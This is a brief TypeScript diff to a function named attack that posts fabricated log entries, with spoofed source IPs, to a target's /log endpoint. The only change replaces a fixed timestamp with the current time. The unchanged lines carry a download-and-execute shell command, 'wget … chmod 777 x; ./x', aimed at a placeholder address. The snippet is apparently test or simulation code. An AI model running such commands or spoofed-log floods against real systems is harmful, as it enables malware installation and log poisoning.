@@ -50,7 +50,7 @@ function attack(url: string) {
       const body = JSON.stringify({
         source_ip: `198.51.${acknowledged >> 8}.${acknowledged & 255}`,
         session: 's',
-        time: '2026-03-22T12:00:00Z',
+        time: new Date().toISOString(),
         command: 'wget http://192.0.2.1/x; chmod 777 x; ./x',
       })
       const answered = await fetch(`${url}/log`, {
